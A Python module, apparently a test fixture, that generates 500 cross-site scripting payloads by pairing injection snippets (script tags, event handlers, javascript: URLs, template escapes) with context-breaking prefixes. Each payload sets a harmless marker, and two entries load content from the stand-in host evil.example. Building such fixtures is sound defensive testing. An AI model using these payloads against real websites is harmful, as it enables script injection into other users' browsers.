"""Texts that are markup, script or style wherever they are taken for it: five hundred, all of them different."""

from __future__ import annotations

__all__ = ["HIT", "PAYLOADS"]

HIT = "window.hit=1"
"""What each tries to do."""

_MARKUP = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<video><source onerror={HIT}></video>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<object data='javascript:{HIT}'></object>",
    f"<embed src='javascript:{HIT}'>",
    f"<style onload={HIT}>*{{color:red}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<form><button formaction='javascript:{HIT}'>x</button></form>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
)
_BREAKS = (
    *("", '"', "'", "`", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "\\", "\x00"),
    *("\u2028", "&quot;>", "&#39;>", "%22>", "\ud800", "<!--", "\n\n", "</td></tr></table>", "*/", "//", "<noscript>"),
)
PAYLOADS = tuple(f"{opening}{markup}" for opening in _BREAKS for markup in _MARKUP)
